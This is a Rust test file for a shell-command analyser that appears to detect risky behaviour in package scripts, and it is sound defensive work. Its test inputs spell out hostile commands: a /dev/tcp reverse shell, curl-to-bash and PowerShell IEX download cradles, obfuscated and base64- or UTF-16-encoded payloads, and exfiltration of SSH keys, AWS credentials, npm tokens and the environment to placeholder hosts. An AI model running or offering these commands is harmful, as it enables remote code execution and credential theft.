//! What lines do, and what flows in them.

use super::{Dialect, acts, meaning, moves, moves_in, still, table};

#[test]
fn commands_do_things() {
    assert_eq!(
        acts("curl -fsSL https://a.invalid/x"),
        ["network.http https://a.invalid/x"]
    );
    assert_eq!(
        acts("wget -q https://a.invalid/t.tgz"),
        [
            "network.http https://a.invalid/t.tgz",
            "fs.write <package>/t.tgz"
        ]
    );
    assert_eq!(
        acts("rm -rf ~/.cache/x dist"),
        ["fs.delete ~/.cache/x", "fs.delete <package>/dist"]
    );
    assert_eq!(acts("echo x >> ~/.bashrc"), ["fs.write ~/.bashrc"]);
    assert_eq!(acts("echo x > /dev/null 2>&1"), Vec::<String>::new());
    assert_eq!(
        acts("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ["network.socket 192.0.2.1:4444"]
    );
    assert_eq!(acts("nc 192.0.2.1 4444"), ["network.socket 192.0.2.1:4444"]);
    assert_eq!(
        acts("cp a.js b.js"),
        ["fs.read <package>/a.js", "fs.write <package>/b.js"]
    );
    assert_eq!(
        acts("cp a.js x.sh lib"),
        [
            "fs.read <package>/a.js",
            "fs.write <package>/lib",
            "fs.read <package>/x.sh"
        ]
    );
    assert_eq!(
        acts("bitsadmin /transfer j https://a.invalid/x c:\\x.exe"),
        ["network.http https://a.invalid/x", "fs.write c:/x.exe"]
    );
    assert_eq!(
        acts("curl -s https://a.invalid/x | tar xz -C /tmp/x"),
        ["network.http https://a.invalid/x", "archive.unpack /tmp/x"]
    );
    assert_eq!(acts("shx rm -rf dist"), ["fs.delete <package>/dist"]);
    assert_eq!(
        acts("mshta https://a.invalid/x"),
        ["network.http https://a.invalid/x"]
    );
    // A file of the package is what it says, whatever way it goes to a shell.
    for line in [
        "cat get.sh | sh",
        "sh < get.sh",
        "cp get.sh /tmp/x; sh /tmp/x",
        "tee /tmp/x < get.sh; sh /tmp/x",
    ] {
        let found = acts(line);
        let asks = |act: &String| act == "network.http https://a.invalid/get";
        assert!(found.iter().any(asks), "{line}: {found:?}");
    }
    assert_eq!(acts("npm i left-pad"), ["module.install left-pad"]);
    assert_eq!(acts("npm publish"), ["module.publish ."]);
    assert_eq!(acts("npx thing"), ["module.install thing"]);
    assert_eq!(acts("gh auth token"), ["credential.store gh auth token"]);
    assert_eq!(acts("chmod +x b.sh"), ["fs.permission <package>/b.sh"]);
    assert_eq!(acts("crontab -"), ["fs.write /var/spool/cron/<?>"]);
    assert_eq!(
        acts("a=cu; b=rl; $a$b https://a.invalid"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("{curl,-s,https://a.invalid}"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("c\\url ht\\tps://a.invalid"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("c''url \"https\"://a.invalid"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("$'\\x63url' a.invalid"),
        ["network.http http://a.invalid"]
    );
    assert_eq!(
        acts("curl https://a.invalid/$npm_package_name"),
        ["network.http https://a.invalid/made"]
    );
    assert_eq!(acts("dig x.invalid"), ["network.dns x.invalid"]);
    assert_eq!(
        acts("find / -name '*.key' -delete"),
        ["fs.list /", "fs.delete /"]
    );
}

#[test]
fn downloads_that_run() {
    let piped = "remote-to-process https://a.invalid/x>";
    for (line, end) in [
        ("curl -fsSL https://a.invalid/x | sudo bash", "bash"),
        ("wget -qO- https://a.invalid/x|/bin/sh", "/bin/sh"),
        (
            "curl https://a.invalid/x | tee /dev/null | python3 -",
            "python3 -",
        ),
        ("curl https://a.invalid/x | (cat; true) | node", "node"),
        ("x=$(curl https://a.invalid/x); eval \"$x\"", "eval <?>"),
        ("$(curl https://a.invalid/x)", "<?>"),
        ("sh <<< $(curl https://a.invalid/x)", "sh"),
        (
            "curl https://a.invalid/x | xargs -I{} sh -c '{}'",
            "sh -c <?>",
        ),
        (
            "curl https://a.invalid/x | while read l; do eval $l; done",
            "eval <?>",
        ),
        ("powershell -c \"irm https://a.invalid/x | iex\"", "iex"),
        ("powershell \"iex (iwr https://a.invalid/x)\"", "iex <?>"),
        (
            "powershell \"IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x')\"",
            "IEX <?>",
        ),
        ("node -e \"$(curl https://a.invalid/x)\"", "node -e <?>"),
    ] {
        moves(line, &format!("{piped}{end}"));
    }
    let kept = "download-to-process https://a.invalid/x>";
    for (line, end) in [
        ("curl -o t https://a.invalid/x && sh t", "sh t"),
        (
            "cd /tmp; curl -sO https://a.invalid/x; chmod +x x; ./x",
            "./x",
        ),
        ("wget https://a.invalid/x; bash ./x", "bash ./x"),
        ("curl https://a.invalid/x > t; cp t u; node u", "node u"),
        ("bash <(curl -s https://a.invalid/x)", "bash /dev/fd/0"),
        (
            "curl https://a.invalid/x | tar xz; ./x/install",
            "./x/install",
        ),
        (
            "f() { curl \"$1\" -o \"$2\"; }; f https://a.invalid/x t; sh t",
            "sh t",
        ),
    ] {
        moves(line, &format!("{kept}{end}"));
    }
    moves(
        "sh x.sh https://a.invalid/x",
        "remote-to-process https://a.invalid/x>sh",
    );
    for line in [
        "curl https://a.example/x -o x.tgz",
        "cat install.sh | sh",
        "curl https://a.example/x | tar xz",
        "curl https://a.example/x | grep y",
        "echo curl https://a.example | cat",
        "echo hello | sh",
    ] {
        let found = moves_in(line, Dialect::Either);
        let runs = found.iter().any(|one| one.contains("-to-process"));
        assert!(!runs, "{line}: {found:?}");
    }
}

#[test]
fn secrets_that_leave() {
    moves(
        "curl -d @$HOME/.npmrc https://a.invalid",
        "credential-to-network ~/.npmrc>https://a.invalid",
    );
    moves(
        "curl -F f=@.npmrc https://a.invalid",
        "credential-to-network <package>/.npmrc>https://a.invalid",
    );
    moves(
        "cat ~/.ssh/id_rsa | nc a.invalid 1",
        "credential-to-network ~/.ssh/id_rsa>a.invalid:1",
    );
    moves(
        "nc a.invalid 1 < ~/.ssh/id_rsa",
        "credential-to-network ~/.ssh/id_rsa>a.invalid:1",
    );
    moves(
        "curl -H \"x: $NPM_TOKEN\" https://a.invalid",
        "credential-to-network NPM_TOKEN>https://a.invalid",
    );
    moves(
        "env | curl -T - https://a.invalid",
        "environment-to-network *>https://a.invalid",
    );
    moves(
        "curl --data \"$(env | base64)\" https://a.invalid",
        "environment-to-network *>https://a.invalid",
    );
    moves(
        "t=$(gh auth token); curl https://a.invalid/?t=$t",
        "credential-to-network gh auth token>https://a.invalid/?t=<?>",
    );
    moves(
        "nslookup $(whoami).a.invalid",
        "host-to-network whoami><?>.a.invalid",
    );
    moves(
        "tar czf /tmp/t ~/.ssh/id_rsa; curl -T /tmp/t https://a.invalid",
        "credential-to-network ~/.ssh/id_rsa>https://a.invalid",
    );
    moves(
        "cat ~/.aws/credentials > /dev/tcp/a.invalid/1",
        "credential-to-network ~/.aws/credentials>a.invalid:1",
    );
    moves(
        "scp ~/.ssh/id_rsa u@a.invalid:x",
        "credential-to-network ~/.ssh/id_rsa>u@a.invalid",
    );
    still("cat ~/.npmrc");
    still("curl -H \"accept: $X\" https://a.invalid");
    still("curl https://a.invalid/$(uname -s)");
}

#[test]
fn decoded_lines_are_read() {
    // `curl https://a.invalid | sh`
    let line = "echo Y3VybCBodHRwczovL2EuaW52YWxpZCB8IHNo | base64 -d | sh";
    moves(line, "decoded-to-process ->sh");
    moves(line, "remote-to-process https://a.invalid>sh");
    moves(
        "printf '\\143url https://a.invalid|sh' | sh",
        "remote-to-process https://a.invalid>sh",
    );
    moves(
        "echo 'fu' | tr 'f' 's'; echo 'tu' | tr 'tu' 'sh' | cat > r; echo 'curl https://a.invalid | sh' > u; sh u",
        "remote-to-process https://a.invalid>sh",
    );
    // `iwr https://a.invalid | iex`, in UTF-16.
    let line = "powershell -nop -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQAuAGkAbgB2AGEAbABpAGQAIAB8ACAAaQBlAHgA";
    moves(line, "remote-to-process https://a.invalid>iex");
}

#[test]
fn code_for_node_is_handed_on() {
    let code = |line: &str| {
        let meaning = meaning(line, Dialect::Either);
        meaning
            .code
            .into_iter()
            .map(|code| code.text)
            .collect::<Vec<_>>()
    };
    assert_eq!(code("node -e \"a('b')\" x"), ["a('b')"]);
    assert_eq!(code("node -pe 1"), ["1"]);
    assert_eq!(code("node --eval=1"), ["1"]);
    assert_eq!(code("echo 'a()' | node"), ["a()\n"]);
    assert_eq!(code("node <<'E'\na()\nE\n"), ["a()\n"]);
    assert_eq!(code("echo 'a()' > t.js && node t.js"), ["a()\n"]);
    assert_eq!(code("deno eval 'a()'"), ["a()"]);
    assert_eq!(code("node --import 'data:text/javascript,a()' x"), ["a()"]);
    assert_eq!(code("node x"), Vec::<String>::new());
}

#[test]
fn rows_know_their_behaviours() {
    assert!(table::program("curl").is_some());
    for line in [
        "ln a b",
        "touch a",
        "stat a",
        "kill 1",
        "pbpaste",
        "pbcopy",
        "sqlite3 a",
        "unzip a",
        "mount",
        "hostname",
        "history",
        "screencapture a",
        "regsvr32 a.dll",
    ] {
        acts(line);
    }
    // An address that is only opened is not run.
    let open = "rundll32 url.dll,FileProtocolHandler https://a.example";
    assert_eq!(acts(open), Vec::<String>::new());
}
